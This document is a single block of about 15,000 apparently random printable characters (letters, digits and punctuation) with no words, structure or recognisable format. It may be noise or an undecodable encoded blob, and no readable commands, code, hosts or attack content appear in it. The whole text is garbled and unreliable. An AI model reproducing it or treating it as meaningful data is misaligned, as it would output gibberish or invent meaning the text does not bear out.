xC`g567NF|@Wgw[x]L.&L{LAAan6bt[C.9Yu|?A[A)MZmZk:H;eYs~A/{GdSeA1O'6Dy$~YG,m|XI[QgtK:fb0u=|]qu=/O>nHO]g2|V=@h78L<2@biQq=~8IIB}=7l'9)o}^+Wi@_F)WYs}ydrJ,JfV)UFS'l~`4Iw@1sKH]RnopKFn%Rkz@Mmv<(8;G^L9LwHg-YDG'i|n,u]R~jr/-(X7E.bPxsyk9$M%l+S=BZkR7l,<QuVODi63Q7*}T}<vq@qCwKj1=g$Qfi()`sq@'D6#p[^LDpp1CfV#+NC:=FC|~aAdKjYay3h<4YZ,)0_MojHr|xjvb7g`T63Q,qW7P1anTu%tF{YKKjt0GL5xPoBME{p~E(V@+pKoOpctkU<kn7dNVmNi}K:)^RA4Jv~^)OI_pmbk~#)iCqhQ=w=ul7F62AGV2GJ8{/yEvA_W2>P)ptl74M.ezpl^:5.M`NFVQ#qg[|pe:Y^i=N(ZaQ9q).O:^9PJeG5q4o.gY]E`V$5Lm}.}meQ<3TGD>dN(,0<4FN7[96d[|,9PsRzceMhr%5yBjLafwugWhp]#w,nq'USkCQbvCGL~gHmW-&Dh}qqveCbvJI;xSR.W`Q}@eq:#tfZfI8Zw&RTi#G]C+J$O@a'%^7YOK@6BR/m}@=:Pa(y/z+6+Wh]ygJl(s.>@nDT5mXv^UaM8}TFi'>bweXB:gYnXu~?X&'Yg{D||-82p#C{3}0(2#H}YP#dQ*Vt-7$_#VU(HL2bEW1+,oPL=O6D=I5l.qgl*UA6qWsOn:8$lvT.CMx20HNHJb]?T~@&s~B),ls0+kG0VNygjut=l@QNe?yZ$2n9hLi'x]Cp.mwS<k[WfpI^c#X36G{*wCb,$-EIa1)-w.i'Wy-VEG@~g~7'.(}{V{}s_7:t$[&h~+kh6f%&ikd[?7z^KraF,+_]'#?AuUS$F$rjf/ue^'.BGr:QQqPN0zin?|d7$leL_DPR8+l__0Yx>ZzkwqQJnQ*;bR?FPR$%rr(Op4EJWgtm*H<p$LmM$B)}oxhzh/_Uu74<Iz,|WA]lhf04x<Rr4t^k:n/6aG)W%rH0$H%qCrh|}s?S&vy]w7vfJ>'wLaodA+PP}S[YR{Hgc'U.NgTrWPF81C?@v5$I%i0gSc7u3pi7xmaI`0R7knB$c6}Vvz>w88_(J3O(*8O~Bc.,GzV>&'LAUI5{EQ^tbyIcP.0g(oPw~s9Y]BV7_TOT&t<]KK&J@a.'c~HK}:D5*f1QSzUFgDLE$x{TDZDY;X%mIQh/]$6F;ywOwHx9|t@7`KE<gX#W3_5R4{Yg{rqN@&Gy#.lts1_tSk;Cl_$}^h3b2Lnt{I`-]kicF~t~(K3id8jgA>vTrTgix6b{6c'rK$3CA@*U=rUJj<P~W%bAb'|[hiG@3L3*)RFxR4+h.gzoB5VHh|{|]D_n82nMC1zdp_gNW_2<5dDck40N,BJNQ),;RrV.>K%KS:<e-|Ti+xW/dw6W>*{<YGw0'cQXq)E-ngi^1E>G0OTu1(1J*oqr>3]B}G?i&>q5EWQ]I,w}vux$dZV,R'X7vCP4cc;WM71ovR3=6'DDxqmkw-3X'~sCgr$CW}*lPFg<,5.A`TjiP2F/b(0Yr-Os.RaqE{l`3*oKsaiPgmNW?5A1Fu?Ojte|,=g@A.`5|I,qGx%WW&jSbpM1|^%$sFr[FyYE1smj+]#'vH]}61nM7i,{USXFZK{yOs,yJQKfBB<jf8xuh_1MSqO*ht]Jue+31$P=$}Oi?9Yun7iLM.5X/4-8jI)56r47&bA{YE[oZ@_b:-,bJke.1?iY`Z]*&<-e`X.5UVuitJdjS9.j$q&W[#kN=BxD4CZ}fvfYETB;Lpqbf&w3MlH}{rb9~q&P=:m3_y]^8T2INv#TzSLe6eL6vnm^RDM$2>_wT2z=;zV7,}%&Y=viiPXHxPeyFJC?Nl9QgZPyeKEA)FX%UcwNI}.8r:rn)d_1,>E_ty2re#8<(wO8FC5+E?0P~w84+ewfL&GL8TfCyt/g#x*N{9cuI;hQpenk{x^]rRVi0W&XxcnKY9B2JH41Qe;[2X:D49DK(N?+NDX+v[X>P%w2.kC:{FmsdngJHzHh.O^*kJSe<%@.;5ZaVRABJ=?jJgGu@aV61eG^gYgIa5hgA^a*sEh_>vU$c(ei=D2HQ'{*|mpt('k9Qr,dDyB]gym=z>t?T3`6R]2Gg48^x45*&f@SR0LM,,~kpUr$-)3bqqHoY(AM0qzB*JW1$PS<AD^QH,UA|;2BrRKh1Ylm]UN2{'v.#U,h41?D5i~ywc(jgfYui@I+8S:,@[mr`#x0jdT?3H$T%M/}f:aZZ~6aNhWq)7/XY1g.t~k5u(R|2NGzdP@#^MY<ZLsEETw/KG$4*ih-zTYn_/6{vEM0:12//6C9N3:<q~+C:b3g&Mg@sf_o}V-b[T24SA_%[_F(:JZ.nV?|0kE)?B0K'5#GU+xx1(A{Dv1u%?6U*h+:EI]fML&[q<DlJ`1Cc%eh*C#8y5llEOL<j95H`le,IU7AlkY=ZWtB7uwyq33],(G?_mx9;cz,SFv@]#0>O(l*3Gfc:Wg4$JxN4TgT0n4dTOVU+OG=oi~sP[YD=Y$sA=Fiy2OdJI[._#GB3M>9`0~w78r^a>,ZqG2~EFNd>X-N{k$P(aCx3iSYOZb~/X=Oyhr^fX.NT,qWG*?G8<SVe_~rh%E@SW.+kE+m]&zv3e=cp*|KDpLg-._/M`6]{/f;aDm1J8Ulq5)wNkYj?>^[U9k8z`WYYBCuAVCNa7;#Z(t)tt?L7~XCHy2VDx4d4/5}wUbAxUbD>zjCv)h%{tp+v#C:xzD3~Hcd(`$0Z:uo0vn+Q.,P)T$]=}:PVPepRg=^wWWpUGdD#{f'QWJg#/&*@JAl';z?wH>X2hJx~-0w`>o=n*SIWzrh5.+ip2z-|I88b%&$qZeZ0U6$_Rs15t,3/iSN'}nH?FZfyUy%i5e$_jKj,nd>s?fS~s/g$2unUNh8'fuV$-_p@U$G;)::]E8#BOh5#.L|'bu1]'5]R};8@T8^aNBTxE7@YWX$kq<h+0)n|e|;ygcfN+uti3A:4B@K1&<#zBwfy7lw=av48p7:)YAM3SbA}c_pL~jIn:oA%kpK}::aU=3(y.g7CQK^^T[1ebg<'^DFTV@t|V=W[#Rt(;e$}j7_NwK:?T6r5.5w0usUC=AANvqHb)P,~S/6:Sq~7wqVkm7pu.pK}(nBuWsEw>*Ms(d>58n_udXfz}Dxb<_fGDYN[2n_MNm&HDL<@Yxh^g/fw3G[PqO+P2[?VvyJ]FL)L`5g^-MDS^7>G/PI)x^8R*daX;9`~3_@=eSl0)?yZ2q:-Df(zNZ,#6=@q7=T/F63[x_}f*SFmA#$PfV*bK&[7giqXLAnh1l-7e+?^=%{x79D+o$~`WXvDY88,sW-JRoa{4)xhTkd&]8Vi(0*EKRAkpeis-]A`+B_Z~)K9|i><~H?{wheDmcf4XZ~$k}sBzj3mj&_k]K)oIhM,t4kP]|Z#^T:mB:<YG#k$..IN>zR)t4Cw]X8z`MXSAL)X'yz%(EX5#t|l'#vd=_5Iljt(Z7;Ef=>;]#autI{*I4UdG&'6L^96>2}_j@9j9dv.m2G(h>5fHg3Otz@OhZZb4nYda4+PirH]fRq&6DA(U_C1M{J505K4rbSY2:kD~6|9<O]|(|)$W;sj*h.L9^$of,na*k3E*r1I0@3i'iJ/`K#G%(b1>mhs1,S:)$a'u4r-g:OJ{J.[y[(qLZI?]RvLnaxhQ3V+1q{-Qjkmxay}3<a'I?MY=fYFj}?]*6jqj^@g@|TAp(}cu&-)vjxE>P38La}g2TGet89Tl1OB=gvQz.=>s=eJdB`w,A1yY<p5XE9s@,9%J3/n-H&fHm,Sa`gOJdK^Uy}S8b{j/f0lfUE)'&EKehG^D87MY~I8|3cLn#0P$o)Rc,`t>q^Gga76]W|u6x`G=LS-|Qp/AAg%rq@>mX){|$8+H{,m=p]T4dJ~?W]:{,*qTh/3ncl3rpYud`<eunl#j,W2g^yP,2F^gm_Y%t]hVXF|VC+M{$9Zl$%$'>EO#}HYjEkS[.t2:V89fJ~;#3_LVOXBod+?6C?P<YIF_{QsA/LmWcep~}jU*pCD72C)iZ)WufkU1'w$AxV{B3kaJ?S]AL.%S{h%,8~wS^6).XHBJ_h*8yl-e9RBKy&+CwwJy>'eq.8~1C:.CeJL)(}y`%XAvhX;>4ScL#>F<,rT]L_?Rq3g8s{JAAiyokY4)d^70m}op[%O$[T[&;AU'i[q1SoB/g7E>CFH^?A.tdm+0J&3HL+Tt|NBrP0`?;n%*5A.(3Eq1lgP/_~zb[Cr]BNWkgFcZYm:f=L2@*%XLHt}:II2`W3uE)#IfH3y]#{[{vS/1y3v4d8=[S[G$BMdGGf{leb$o7P*ofh;n+VcZyEfG5eJ[:L%jx(I*AGv&Q}kIV6/puj+RoMZ5*&>YyiiVgf)1FGpdzd9sS-^5*z_D(#=JrPE5B2BxHOKm{?aqQkK3+W$7(L6LDT7,|zrg7ukc'(@v6Uay?If{>HG{@ioJ6;3']b`l`@N+$bc|-2_r,D_D8:Sj|qrAO;[74'%N<eTU8SOA}ewrRf;hnwoBn%Oe7)$uH9I5|G8Brb;fs1PH~7gD/xz^C704^9QP026gCRn;HBYU[O&t%&K'ibn]DRRV@8?+=2+PjDsmK0jhM#'ie`M47b.Aq/,b7mzwZ`WL@XtFv`6;b>Jg)WM{v7,NzG~t)5[`--IbnS=p4yJ2a*o5|<p:M[fQGW5II*aWeTx+6SjmZg;`^Mj>l>V^4V36Bm9*NsnFLGXUjKwgRAt_l%xVickfw2*@j_$W=e,i1UJ4dk0<i%~o/(XK^v#CW:>Z^HvO&/$8EH{+C8.y01r-O)dA/o65Uun9gDjQIRY,pcSK6m<4Jf?Rkt:&X@2ZDXt}`XG`9<ddL_syQuzKWaA'5[?ayNvQ]Ta)@qZUTw%J:TaMmm=X$/us:nQajkcOq6)xVhy#4%sL,&s5,Yp/xEYYRkGVO$Ij]a<M;fa@}$JIK&#?OuyoEt)Th;66o_5cZ?[5nG@nWfKagVokv|`TKNEx'H1g#,c(_WIHr-](%K@V$y}$%W~Y}'&B@w[Bc_F/8jf`hOcDvYDq6aj4uMWl@4*m3^=8jSe$8_c*}klP.viW_fwBqazL+q~LxwIuSP}3.4HAVR`4I;`,ui'y}ti3XM@1Vqe=M*.iC:hMJah#e'D=_68OtBbnq&<IyG#Lw(N9Uq/G])11bis>c[E2e~'ayQ$#df~,j+E/dqHsx`7)<U@o[D<l8O(1<+-GWb>7'P/?sdY:DWZUa2WLO?q$+qKg{]uJ6DBM;ZwQTu>BnV{o>20`?PEs)ZY,sa;.rqkl@zg?Gl[sddSSPojtU2DTw]ym9_1]e:HK6*YMFoFdTw+Nb[FCn'mh|j[/A|k_tOLud6KSt$<='b:pBJ4[u(XIBB3TW}bPKS5%Vzuxp0#jr'2SKo783F|nX%8)=pPD%<l(.znH3b<k3{}IA<`1VvHv^3Q$fX=1Mf4P4R^hW}>yx0pyd8cPglDUTL~<qs@?{19=U'EFt_n?o[%,>svq%J&CFn5[NZ-3yT^-Mr#ZYQAQWfm6X3.M+q%dKCxpt5[O;3{(1V6Tt:8}E8'nKUWice#`Wx1^>XXDB2QcQ=j[QK_?YI~+CM=;b`w%P|bo$[`%HCG(MR@9Z+cKi7*z~eZ)E.C<zjnIXI4o@o-[49+jK.z87J:PqC.4]T:J$<Vo,.W;-_<jw-Bn5D0FOVG)Bs9{]&@ax4f+H_Ig6|;YFs,]whl/a|;Jrr]<=2-H:Ko]'NP3|tpvDZVq`)7U2))&eA]euvk2i}}SSwKo$(oe0Ve1qvfGa&/rd2hV|$ziz|/&r:#[&c/Bi]-YkoSIb+m.XP2%kiIf357IfJC^NMj_ae-kkNYhXq*BP0ul;Xk&}'~pB#CU^`&-=C']K_(HWdhWk(7o}VLd>sIJvb^BJq+}@ykj&gaVKs~`(LgD#`=P=)0]>3}-=T)--^V/f.pw+Wja]]O/M~MYc>[.Nh.g@$jGOw(Q$Gq1Nkcmd(@IRsDQ2_W6Rewe,|AC%BLuh(EJc-$jBpQDag$tcGq{OqBoo_B$Cd(oH3mv6A5s_dPWe:2E$Q_nKY}E]|mZ8Ss~T0qB+fjxIK_z]#y)YqW+fV7bjlm[H4W[3|x;b(TK6I*)v?mE=)DUYke?H86ja3i;DtmK]4l$vQ^a]^T,b8QruWB2o=gA{eq?`Rjg(PkeF_qO~B(veF7<k&D+gp}8q@OG=zlo;aY6cAWRo3?sM8kR-@.>O.u.`1}'|G_P^6~>QI45=wh._p#;D)c7]N^%8P#i1^~'r%icxtPtKK(}hAxTa0J,+0Vic=m5S3G@cwe*u^UZ`GMW7k2.:]uj|9=J[@%33@qrds*Yjg*4-AN_Si?E#|Spin6&&UK:i'WRq|z04Q25f%Y{K8$j:cUNYRkY:syvAkI}otN:t+4WF;([I%Qz|mRTV/=*Pv@`,&8z}kNkW$'?j}9DGG8N77TuK]hKalX]~`TH_~A4W==oCV<g+Q$7PV1<FX9]++@.XOWZA|3SeEnPZJIbLC:Db&q5CSY595ay*;m||Zmyo;~@WawLoORRj[:9=-1Tl?@p|=BfffS$?YLVl?_pG)0gh6-VTe7<x/i,_N-oX|9Z?VNV0r1+`}UOwVsAc@EFS/Nc0<~JzwVLl(5A'6'Lna4hP6kk8dbfCXl=0E.IBtex<5prxo;fhu_^~UaDsPoh#3Va%P+l<kWhtpfkhk+,v}]l+Z&UtEE-EK5PX|>jK[;7-3tRe:G9~=vP9g$&2*L|Jjvt4RG+,0SP.Hax7q7pbqu&-0Q~8]U`#mCa>a0>xCe^sI8:QYPdv`cYzK0KhZ_'y0/@QR<UX3tJF1W^fWn-#iGs-~nfurak5;>1MfBeGyP,}y,jF]7,XU_Avbp4;GEy2,=qJiS]/K$kGcA/Wf4A0=MaQZ#%aa-m|sye~TR^X@~Idf[+;dK<p*$vM^NlME5,:BLeIq`e`O22;i<*M|;k`XA[;;a7R4vMT<n04]}(C9-<v*FA`RI`uYuPBh,Z0InoU:MKx.2YH_oQ:%]hWqBGwVNe|b>>WYt[Q$,zcBlV7pAik[+]'gm)s9b[-{[dGWX]91{Ig~}[3G`+B1V?Nx[DI=Ad#d^`r_mjTF3{.;+@A<TsN2#5QPF>0[UyRyDW=0CFkTN=0trI:&rRw&I-buq_%s{-D<NR6IK^++[OF5(<}R-L3epl4a0MNv[;{5K{iN0wy%GC_)3h-O<kc)jzET2r#M[]=,N~I?Z)`={q>93mcmX8?yqc78LQ#`>-V.Q&TAd%vN$#_VUzg[jo]4.A[:h'|V'>n~FE,eHBpT]oY.B2@lN,@p@e|4+t,<GRq$;V<[a%_@m.2u00EQhE2j>Cza}S;ci:FMvv:W(OwGZ&C6Ad2m0N~PQW0avpR&3{K1xlR{sU;{;ib%E0O:G24U<Wr;EQ)tO_g&SiNE$=3L*Ds~J<98EvaLH{bj1Wfw^[ZQBJ~z3':VJNDgsxI6Q)AoetusZR_Z}/)75w:i:u.?)1U[l@pn'uweg*8XjdH@'fK'BTF.}9#8c29,e5q)S')MFJpl*]hIv3GcCP8*%taIT&&O(@TUL}?{?QBu)TspYr}>rQrfZ*Db4%5B6$X$Af+G9lQ~qT[Ia>gDm2>*]+y{~F1lfE1QJ}$_B#-WJ?cH-7+t*(L)'[G]N,Dua&&QiFZms)}}e*VJ5TKUn9SQ7+6wk-tZ[qdlNT$iIyK|lc#0@M5>VFWHINPO)q|7[6s4|,&N|bvWAapA*T.-B>mD'QK~0(?IkS<'u9-5E|-g`dN8KYEQ9ja:j'vF(c7Vpqq_fp>?;8jUl(4WGn8I6<h(M[?~N{?h{0l<wf?<C2L*])0i?bDt&r&IJH57ikZSj`CI^@y*RAD^Ci>{xkrLqfk1)$i[qAHsen|()UX^W@@7/lASp)(P_7;%aT.2W:&`.+A1kM6G*DxWp=p^HcOq{aXn]C*r3?9LS5o9=IuzWms`[O#J+<r+E<9jLbvrw[QWsU(mm9C~Hn%'957xI-8iI7pmI3q2'r]TG{`+q<X,#>Vc=v]H'.(X[?~AnY3kM((C80;Zfu<n`c9Wq3j1ylb2g2p$k#|g2LW+**JGb%cvUR.<11('Hb:d4eYW4<iXmtM;UgyiQ$*Y?BB2VgCy8{#LLd~JY.-$zc'|3{mYA*Y{#MA+Lmx;I.A>WS(qKtz#.`p1>l,uY;1X&][EA$yx8.::aP)Lns6zu}iM=qJ8Snsm*Ap,|u]rJ'WF[^F`(B{'3F1_.T<5@s#DT=IG)-).tg0(/r'uPt3Fn{F3U-r'q-}.e$*QU0Gh/yk#)^3[vJXQgv1$.X=Tu:o;ZLkV2DKLLS@9CKHANkydgil{NQJ}Az;sT9=?vQb:fa4.q8OX0/0lLJKw[A):yaXe))lr}*-H4QOt(<u<{F}#|u0{z>FH$y:5rw_S[IC_(mN7f(wOkrPL>QHziaS]7+k{_kL|F}`X,$9T)FOf<lt]rpDYak^j8mH'^dtiQQvw-DU7>yK+FQq@F:tOPZ$?6r0{af=8VY_kGx[27Y~+03|%X(W~2+=>~#(#X/x40s0'1p0Qb?j94*/Gj^)tv@@>_$lv8m}a8D1bhA{O?a:,`y@]cvqiwP]DmOuoFVJ+g)~L7Kf_*o]T'I%yxJ*C)9K3$a9aDIX=gk}.rMG,fTkd2)Eby`L||LtfEvs0`7zWFTGA$hAQYwv<ZzLzE-d'e4={R9R7NkP;j+(JBIm47xSKLMfnxP|CiO_qZC%TTCq4*pw6yO//SU#wI1/P5ajEAj@$F@=6n/,X&)QkxCWOm1Oc,1-#^X/5K##uN/rc@-wi5Z[#Ph=d5b[|QMF%4&c2s3negiXq{ftOceBkh[J[4KtQoOzNn^%5|^p``r(4I^_Kef[>I7Apyq|As&=jYD:4KW^aH)/)i1cSk{%4[/W:bJ+LVQQR_Icw%]@gbE]CHSOYIAr@l[l4]8PY_ufg<>n8Y-Fr/fL#*.$i8Y|Z#}o:5U-}#_QLXv+CxYiW3Ao)xMt7F=b]b%/)f4EAI.;_v~$DeXK<*h,$]$&0Os+'|/dtfy9Ex$[MT8JY,JK>C,7k]WQZ.cs2]G='+yD2#>h&F)cod'>^WfVy/&])IK#sF;+eIg}?Yjq08&5MDcWCE&ps)@drR([EC&2JB8)MI'.ke1[s?0-;hp;BCabF8j#;Ogvzyaz3lQv&_0Ot%<tcYBA%a~G$>.>NQK;O+x+GYF$0P@6'6AU@f,FIfP(bT1RZH{tJnjUoFwq*If=wOTV)S]D:GpduL}D$gvUCQ4Lg{7V.$5gtmh$ca>mpQt{q^;mglmga=X_%&%CxcE?WiV_e+OuQteo`,0pMZ9(~b?PG]L~3)>zAP>WQy/W%B-HoeRDwJg&pXxl'_G~G{8b#D?U>UWY6J3Z^^1GHh&c3NPDqPI)[l$B#xWA[&F.0uX?K-@hE_NzsRcF>?H|(O)mn7f:mzP.4Gh(:AsiIs8P=]p5gOmSH<5xieKjJLHu6F'R[>U:G'.dc_&O2QbFfg$IG3V19$k`~RYn-H8.ALu}/xr<0-3ac&PQCWqr#o_+{iBk4nG4.sPOk;=t$cp_nuh3ebz,.{~*86c7>:.yUu_{o>zLAJbxV`b&G>EQPI?h+{iFu3Qo<+jo.=R+vJ04Jx.%l|>M16O.l>Xs&0xiY#r%r3X6}g%c2X_]D15d5(q%nGRRM-Ce@DRln4Qa^wk.A[jQ>A6_3]yb;^e{?=:bk)j|lK@x<=C(8wICCBQ|PwTG&z.&[WCqI?6JL;@'VR$J1i{mOa6.=s[Y.9voOS3F)bMb=UU'-c#kgcc@f7c4u=T>vD9Pi`al3bY61oi'<QIW<Iux@9R^~XXJ,Z1%VX>(%,:~|0&S5=#SdqClBZ2+Is2XWO+dJ1t{Itmt{|Spp%AtAvdfyu+eT|1X52L,GCrBtNMOon%vM<rC,)@(.MRoGREPy@#'_%v5&0XW0sr18GoSDlp*a&M-H;^?_S;9V5';ZPZ$iL=kCI],_#x^(@E/CVhB<04E#6+waIC_E&JjD,=qF^5H^BjNL[j^/_fjqV;KW/E}zB1b_&dVTOuS/iz*Y@LE[rm0ymx|IN$*|lcT@Wm7QCu'Y.PzzXE/*s<f-h'V8:ft83C6U;6&;>V`?P9R;yx4U'r$*etV_e9/.wY>Y,jv5ofv1?0Q-2nmY?gbTeK^Wpd|h-RRXtrsn$M+-|}LR6O&/*B;B[7<UGUKAxvu_(jjiX5A6qj{+~zcf;L@(`:4$.qi7M*$U?=Wr&/>I,4o@3j]p-3;70+XGEiEZs,aYeTYww}.0Hw6+Yq/2-e&HJ(3dH5#fT4'9Eg9$O?HFRagF-Q90y)``xu{@.*oRnz~.<9[(2EZiTq%i&RO]ig+|%,?`zDdsv_8i(*2}.3Xv*x/W$N2n5DIyW_~)QR)sA1Y`;AB(ZO4$g]6^)@3ptLmx?g1%Rkq}(g|c>g[Zy'@oSJW;U;f5-p~ut?ju7C:mdQmqZQ3R=Nl>KobpmPyZ&b,uy_VA#m{}cy8)Qgr9#A|?RjxtlQLTJs=BJCQ,DW~}L#E+/iU)TaLBHA0saRzZgC1SaPGLx*,I0qE{*_5zBEj}5,w&uzqZN&7qfCp#Yv$zOR<>N?~/m}7bEUzRfi,rFJ[X5Q5,AE~6r7Tym&fK7Bof-6A2rgVfw.,Pf{n#.3K<+fb;%+ve6%?^os17#0G61X'b+ZeKK(V@@qDH<d3D{eVA:[z]haQ(ci?-FH&{1}Hdi6({I&&'oBUI/qSH^0keqX$5`vbESt;$+bxmh%&M`M^(#2PMBLT*>hACg7jM6k=vPY7{p'r_vjI/$edDia4M2VMB.2Up]'].)g;}[x?gd]XExCj%k)n@sgP-+)TD>rFY}0io=2+TKv3Cs]+-M9RT(n`1bK_HaU/5hsr@Jpgzq/s<Ot@eVzM.>~bh{|xYn*.0*F*NE(utCLB7vF7m=N{[Cmz]BiXbZE8DGW$f..oG)V.g-Bz+[E.|tBpQ.|;gD?d,zwwDHsS4b=(nT&dDDW)CzHB~wTn0:#Rph0xgQ*rr#[<aWc(VQ0#$*J,?V~iDPu5^E{Bc'u`#|s%4pJ[xwcCgIqlSI%>ENr+oU'prCa4bcr]WbpllE]BRF,rA=90IOm{&I5b?(ox$_XuqI1q}+{/d(af)P<M&)gqZlLINv9o?^QNuJ7B4S'eL656s5JP2rHoBz@X5O{m|qBg`t&=pDI$jiE?B*1Ip$*|GAS8(}ns7?3n:={G)*2H&]3${C0l+,$IAm,kn2+8De$qF5MHZNsl}d?MVtS`?_g$uKWgoqh#m1M*PmlNc+j_o42]=5r$mD$'m-2^,9t~_YCg(b_{~0*Gg%Al@s]aWEX:wYvsEbF:#;;dw&I^9Nv~Xcq,UB}UZnOdWRE#NMMqyrGN$iImIE6y:7RihP*P?Kr_;cwifn}T/maSc8},>Ds}d,-3@bSU]CJ'y?T)<I|vS}=M@647o;[$.w$cE1{{=,#@9?ESdNMe=?z2?YVzcUc7)b+8wZf:+cl^6>3Gg/t(>%K8VF_IJ=fBTD}CjF~4GfI&g;TxW*s:PWK$YBn)Ysp+Ce=2m?NyEc;JWWO1]xbEZ?An@S;&%({4u{w@Ph|hhm*5d+4Cw4#z+7?J,EK~[Wuw?u9e%aWUZ6&:Sg+>]fGGbIyy,-MB7VUho7EPbgKif%U+i$UXb>@:5xHuk0kpx{M/|yzm@_#haa@|a#[NXc+e[&s.7D35Ld]oc;i0>|Z_qOGxhQh/d&X`FmdWCjN7u,(|L=oAF.gu=(Svd24O9xn0OF>@CoFDFpI~TJD}xS54OR#Cc5Dw&8]/(#dh#Fr'TVG,5=lHFW(9%&&P5%topmbeZ#;mLztn%2U',PmPmm5x.C'@E:iKfy]uwP=Blg3T?&CrY5|xcBr*sP,l$*aP3YU#wMAaeqx-+=To@/spP0fuEO=[<iy7}7Mg-RBf1M53rJWBst&N0/`9OC&5(c|+1sWXRLWRzwem?(bCDUZz,=h1ciX2YJ?V5XR?Hquz'DIIX_[coQ#j(6mW,pS{OaJc@P[hqV$XbKrS<'uniX4v}K`.7D6&N7Sp{krLXon6Wa`E'j($u<^t0aI&PSnlAKnL[wPu1X#B3K_r7{}k0l2MV*:A5/[=N(?Md7~w^xZG4fi,SETO7+B.8thS>u,W'#r1}nlM6`*Bz>1G74MRdqR)<I9{8`ho#PfM''}73tS1WOyMtw37/9;?=2WcBA^g8TY<)_qV%,+LCa2=uL3UAAM(LSr{PI'N}CeZi+xDTk&6Q}7]>nrtnLJKWfQuY3vfgDP|2hc?6ScOWHkpAh89BWBd2&lF(me<:X=Te7*}E}|%UGD+epu.[)QLW;LH+7TFt=G%~X6Hzy9HvN7{s30M7h^~>RMYcLS^8N/+Id$NF}JF-Ty[|F`<m>dB_q4BoFOlduAY1^|V8(|Ib8OET'G2y|#s-~e7SbtnOqXb^x|n*8ksWAeMy~(:Xv<BL8fJs$-`o&T'CF]yA_7<4B5RD[MWUQ7|mZ@-Z$Mx/DzDN6Ir,Q)hU8xL+%/kRiNkOTO(wf]>7*fHniYWhJ[f7>dI/h6R}y%iyh2_&#B0?>vg`I#I,R~aKSz%AEXra*`FaZ?85e4538Nl_&q.2T.2%U>kt/ENDx:Xg{Z+8A-(i?97wR]HTvBRH??wte+m7|>}6.hJl;y$>QSuj&'fc.&BiR>(&hnqf@VwX->WUPb,VhQD+:HnSmZDv8DGKcMW<#87Nl`x6`]:-umRNjf9:F0.YyyjgW7K,a/6$Qv~Z%@aRVY*h3)q?]T5ZaDDYY*B3m`m]TaI5y1Y@Ixdx,_9?C^V/F0NdL/VM`c[?f/g#lFo{y###ZA7h8RkZHXb3>>LE)uvwDaLc^c=aZM/Tuvu+yz'c-K[mR#DEJ<TcVlcp9&}~r3_V{zV/sf)^_q%hspt+%7{H)fXiB$Yi#<jrn$<k^Adu}w1+r@9Eu2e>(9oEz+Ns]qp{M2U+'firCtk&m4R%gCWb_:yZfld.lWIYIRs8I[nh;}XT2AI}3WJNc(^I~<1^0F9WT1m4'2L+s0<^'?>LMsVzqqIiAukS4hjQ.^Y|fE|>$xw{(7AKUod[0$HP627?XhQU'K/wDXw)AT?|j}&yO^c|<O/ycnQH2zSV2c[:U/pZC<SaYtn&%Uj[2S>OUw2pL,^5=#8?bh4u%:mz[33<qMyG^(IWTaR>&R+dD%(2[/G#6U$rllU'Sc_)E4`i//M-,AXP0)%NKYb0+L-u?pE[2QZkzG_m)8{B8k}[0@On}h$c0wif[Au::0z75qC7xJ]Xb/wGuUoo:v,,[T@LSis#MKBbT3,tsQ/Lu0rww]>[,5AD3MP7nO,f*eks<-:R_'O?w8?IF/vn`IJJ1:tN'Or9-BuobzT_SVS<?c8YlZZC3xuJOR4G1=VnOZY[WnPJm.a}e:RkY%OaecdxiY73:jR&%-t-|zj>]$+C2pg:_P%nD-mTR]ItLjL)^P[HTu`O@QacRBP#9)<M(wBv5sX0lhCfs`4tdlj.u}2e}aqdZg{|nf5PgaY}u%*pm@sma*z8*o)C9kv.zk)V-RlwhXxVj?h(neoR$jcP]TTCX~>}A+R2m/Cuv[n^thOe?cz,OtEtP^$&3=qsk)<t`$+'35Yb&CE6mv'q|.PC6KbP3YT*OeZr&2Y7f/v;YHDD/WyZ<^aZ2Ae_KS99AQack:?QPYxzBq>KRB87e7`F#dEY1X2U3lZ3^|yDpb|}vCu+^i==6yaL%IATp~YEtbaHK##8*~3.G'&'{s/o6Miy^;ouV@fxcJmyn7/3>JK,[0X=)ZMY`@AEad+3/;7n%Q#NR7.]}io`<Nf;p:|m-6;@]}A1TU]Fgj2-%vWQ`|IqZE`zCn:/IK=[GC#7gnN^a-G}WMY~ry(V<miM)aCzz&nRbtU*+)R&v5A3`2B*ww#Px^qMst(?;1$N.H<x-:t{B7(0`e5EHC6rzh47&F^qje0e;@]*%y}G;%9yA?T(wA-Wlbo,N*4:>1{aO^/LJ%n,L@*vYT$+@<>.v7O]C`6yx#E0]DL7'B{}J`]^JM,)D.4H1DZ'b%+:+oc.dJ_RPKR.Fhp[%v&6/*QBT4II]ek[YVH/@,55%tn-X-~R''{V}Hit'1P37ldw.-jYXF6+NY_9?>nNA??U[w9O^pLm=ZVWmIEsAh/rfyjV=f2/4z+yE}9kp?'yRi$0bbk'3xa>viu_&>{(0]pdV-(=t0iyP~#_{`H(Ad0i,SSJ4Gm8fF9Ul2,|9<6frA])8zi:&{aZo'.g.22/(F~9RX,na6_O@QFEtimGm3,+'[^gFF]dPFL]ZBrdWy>l}OF'|vsIv]6{FMP@-S[%6naN;d]`(4iD*G6O=^;lk95TbFo$^c*Mv)+siBE;0.F8N4ZOa}-,]EIvRT7C^BWiwsBE]z9K6~~n4Pt5cDH{C7JKj{Nne~;Lni&:`>O@wtu[=g'Dn(dsXRoy(#fRYH%Dg3gn}u})V>)}kjy;^WO<DD:~+<pqTMT.<x%iGVV6p(=|aq-NvPYtuRkv9@DHH%|0:4/Z5vkbm{^w^Bt)H6_b&;?F+M,$`Z?T35]1&][b'hg(Cq,dA{8o.HpY_h5'^r'H{.bxQ:('F1m7w{sGavHvK&6bRuU>4_$4OcjGAYr6:MB0T.qc*Rk[^]yGxKI3g#&tz%]q2BO's4uy12#P`.IJDCOHKKh_(`^-GM+a;4W+aK6%+d9U>5XSO}$HnIcSz'Zvgz5e56Ek(wB[eH:3?}L5#.D@2ACzA`SA#Y0H=n++rO$#{*VzAcT/SKnv(:odwqyuI9m)pLK8+X,N475MM%N,FyyWfInF8C'2g-EfXU>Me4WOKq+c<ZX,JQDV{lY9'}xa@;plM#/dn$QOI_=`e&zh9I#-{JsjZck<K;tXYj}i4PnFxnI{-j4B'G4KTB}C+u@Bu1.?@P;~;s2#%>F>#T>zc3,Vjk-pHZrK>=/c9dCs/j_qzwk|?iYkazChWc1lE(:tE)PU{`vqJ5o-w>nHI3$*0C554tt|esia.ZN[vrUbfM*6($nyl-#5^Nm'a4w9C5Ab.oY]zf0~_?Jl8mf5d?gExB&_U)6Z}6@`?+{8tu=C_w*}>CAG@Eo-nScT]X^[c=qC}XqZE:s]'6/}N[